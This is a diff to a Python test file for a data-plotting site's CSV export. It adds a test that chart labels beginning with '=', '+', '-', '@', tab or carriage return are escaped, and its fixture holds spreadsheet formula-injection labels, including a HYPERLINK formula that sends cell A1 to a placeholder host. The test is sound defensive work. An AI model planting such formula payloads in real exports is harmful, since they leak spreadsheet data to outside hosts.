@@ -68,12 +68,14 @@ def make_site(make_site):
     """
     Return conftest's site factory over this module's configuration, with no token.
 
-    :func:`make` takes ``buffer`` (samples per ring) and the rest of
-    :class:`web_helpers.FedSite`'s options; the feeder writes 6 samples every 20 ms by default.
+    :func:`make` takes ``buffer`` (samples per ring), ``yaml`` (another configuration with a
+    ``buffer: 5000`` line) and the rest of :class:`web_helpers.FedSite`'s options; the feeder
+    writes 6 samples every 20 ms by default.
     """
 
-    def make(*, buffer: int = 5000, batch: int = 6, period: float = 0.02, **options):
-        config = parse_config(CONFIG_YAML.replace('buffer: 5000', f'buffer: {buffer}'), '<test>')
+    def make(*, buffer: int = 5000, yaml: str = CONFIG_YAML, batch: int = 6,
+             period: float = 0.02, **options):
+        config = parse_config(yaml.replace('buffer: 5000', f'buffer: {buffer}'), '<test>')
         return make_site(config, token=None, batch=batch, period=period, **options)
 
     return make
@@ -407,6 +409,36 @@ def test_csv_export_rejects_bad_parameters(make_site, query, message):
     assert message in json.loads(body)['error']
 
 
+FORMULA_YAML = """
+server:
+  host: 127.0.0.1
+  port: 0
+  buffer: 5000
+charts:
+  - title: Labels a spreadsheet would run
+    series:
+      - {topic: /a, field: data, label: '=HYPERLINK("http://x.invalid/?"&A1,"open")'}
+      - {topic: /b, field: data, label: '+1+1'}
+      - {topic: /c, field: data, label: '-1+1'}
+      - {topic: /d, field: data, label: '@SUM(A1:A9)'}
+      - {topic: /e, field: data, label: "\\t=1"}
+      - {topic: /f, field: data, label: "\\r=1"}
+      - {topic: /g, field: data, label: 'IMU z=1'}
+"""
+
+
+def test_csv_export_escapes_formula_labels_and_keeps_negative_numbers(make_site):
+    site = make_site(yaml=FORMULA_YAML, feed=False)
+    labels = [series.label for series in site.config.series]
+    for series in site.config.series:
+        site.store.append(series.id, -2.5, -1.5)
+    status, _, body = site.get('/api/export.csv')
+    assert status == 200
+    rows = _csv_rows(body)[1:]
+    assert [row[1] for row in rows] == ["'" + label for label in labels[:6]] + ['IMU z=1']
+    assert {(row[3], row[4]) for row in rows} == {('-2.5', '-1.5')}
+
+
 #: Samples in the big store: 500 000 per fed series, in rings of 600 000.
 BIG = 1_000_000
 
@@ -498,7 +530,7 @@ def test_csv_exports_beyond_two_at_once_get_503_and_streams_are_not_counted(make
         assert time.monotonic() < deadline, 'a closed download kept its slot'
         time.sleep(0.02)
     status, _, body = site.get('/api/export.csv?series=s2')
-    assert (status, body) == (200, b'series,label,seq,t,value\n')
+    assert (status, body) == (200, b'series,label,seq,t,value\r\n')
     held.pop().close()
 
 
